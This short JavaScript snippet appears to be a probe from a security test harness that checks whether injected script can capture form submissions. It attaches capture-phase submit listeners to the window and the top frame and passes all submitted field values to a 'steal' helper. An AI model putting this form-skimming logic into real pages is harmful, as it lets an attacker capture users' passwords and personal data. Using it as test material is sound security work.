// Tries: read a form when it is sent off.
(() => {
  for (const view of [window, top]) {
    attempt(() => view.addEventListener("submit", (event) => steal("catch-submit", [...new FormData(event.target)].join()), true));
  }
  over("catch-submit");
})();
